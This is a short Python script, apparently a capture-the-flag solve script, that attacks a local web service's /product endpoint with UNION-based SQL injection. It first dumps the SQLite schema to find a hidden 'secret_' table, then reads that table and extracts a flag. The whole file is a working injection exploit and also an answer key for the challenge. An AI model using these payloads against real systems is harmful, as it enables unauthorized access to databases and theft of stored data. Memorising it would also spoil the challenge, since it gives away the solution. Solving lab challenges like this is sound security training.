import json, re, urllib.parse, urllib.request
BASE = 'http://127.0.0.1:8693'
def get(path, data=None, headers=None):
    req = urllib.request.Request(BASE + path, data=data, headers=headers or {})
    try:
        return urllib.request.urlopen(req, timeout=10).read().decode()
    except urllib.error.HTTPError as exc:
        return exc.read().decode()
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

q = "0 UNION SELECT name, sql FROM sqlite_master"
tables = get("/product?id=" + urllib.parse.quote(q))
table = re.search(r"(secret_[0-9a-f]+)", tables).group(1)
flag(get("/product?id=" + urllib.parse.quote(f"0 UNION SELECT k, v FROM {table}")))
